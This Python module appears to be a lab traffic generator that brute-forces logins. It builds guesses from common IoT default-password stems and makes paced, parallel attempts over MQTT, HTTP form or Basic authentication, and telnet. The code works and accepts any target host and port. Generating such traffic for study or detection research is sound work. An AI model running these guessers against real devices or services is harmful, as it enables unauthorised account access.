"""Password guessing with real logins, and the words it guesses."""

from __future__ import annotations

import asyncio
import base64
import time
from collections.abc import Awaitable, Callable
from random import Random
from urllib.parse import quote

from wirespeak.lab.attacks.start import Pace, start
from wirespeak.lab.devices.device import MISHAPS
from wirespeak.lab.devices.mqtt import MqttClient

_STEMS = [
    "admin",
    "root",
    "pass",
    "password",
    "letme",
    "in",
    "iot",
    "home",
    "smart",
    "camera",
    "light",
    "guest",
    "user",
    "test",
    "default",
    "qwerty",
    "dragon",
    "summer",
    "winter",
    "secret",
]


def words(random: Random, how_many: int) -> list[str]:
    """Guesses people would recognise: stems, years, digits, doubled and capitalised."""
    found: dict[str, None] = {}
    while len(found) < how_many:
        stem = random.choice(_STEMS)
        form = random.choice((stem, stem.capitalize(), stem * 2, stem + random.choice(_STEMS)))
        found[
            form
            + random.choice(
                ("", "1", "123", "!", str(random.randint(1970, 2026)), str(random.randint(0, 9999)))
            )
        ] = None
    return list(found)


async def _spread(
    one: Callable[[str], Awaitable[None]], *, rate: float, workers: int, seconds: float, random: Random
) -> None:
    """Guess at `rate` in all for `seconds`, from `workers` at once."""
    pace, end, listed = Pace(rate), time.monotonic() + seconds, iter(words(random, 4000))

    async def work() -> None:
        while time.monotonic() < end:
            await asyncio.sleep(pace.wait_s())
            try:
                await one(next(listed))
            except MISHAPS:
                await asyncio.sleep(0.1)

    await asyncio.gather(*(work() for _ in range(workers)))


async def mqtt_guess(
    *, target: str, port: int, rate: float, workers: int, users: int, seconds: float, seed: int
) -> None:
    """CONNECT with another password each time."""
    random = Random(seed)
    names = ["admin", "root", "user", "mqtt", "hub"][:users]

    async def one(word: str) -> None:
        client, _ = await MqttClient.connect(
            target, port, f"c{random.getrandbits(20):x}", user=random.choice(names), password=word
        )
        await client.close(politely=False)

    await _spread(one, rate=rate, workers=workers, seconds=seconds, random=random)


async def http_guess(
    *, target: str, port: int, rate: float, workers: int, form: bool, keep: bool, seconds: float, seed: int
) -> None:
    """POST to the login form, or GET with basic authentication; `keep` tries several words a connection."""
    random = Random(seed)
    kept: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []

    async def one(word: str) -> None:
        reader, writer = (
            kept.pop() if kept else await asyncio.wait_for(asyncio.open_connection(target, port), 4)
        )
        body = f"user=admin&password={quote(word)}".encode()
        head = (
            f"POST /login HTTP/1.1\r\nHost: {target}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
            if form
            else f"GET /admin HTTP/1.1\r\nHost: {target}\r\nAuthorization: Basic {base64.b64encode(f'admin:{word}'.encode()).decode()}\r\n"
        )
        writer.write(
            (head + f"Connection: {'keep-alive' if keep else 'close'}\r\n\r\n").encode()
            + (body if form else b"")
        )
        answer = await asyncio.wait_for(reader.read(8192), 4)
        if keep and answer and random.random() < 0.9:
            kept.append((reader, writer))
        else:
            writer.close()

    await _spread(one, rate=rate, workers=workers, seconds=seconds, random=random)


async def telnet_guess(
    *, target: str, port: int, rate: float, workers: int, seconds: float, seed: int
) -> None:
    """Name and password at a telnet prompt, up to three times a connection."""
    random = Random(seed)
    kept: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []

    async def one(word: str) -> None:
        reader, writer = (
            kept.pop() if kept else await asyncio.wait_for(asyncio.open_connection(target, port), 4)
        )
        for line in (random.choice(("admin", "root")), word):
            await asyncio.wait_for(reader.read(200), 4)
            writer.write(line.encode() + b"\r\n")
        if b"incorrect" in await asyncio.wait_for(reader.read(200), 4) and not reader.at_eof():
            kept.append((reader, writer))
        else:
            writer.close()

    await _spread(one, rate=rate, workers=workers, seconds=seconds, random=random)


if __name__ == "__main__":
    start(mqtt_guess, http_guess, telnet_guess)
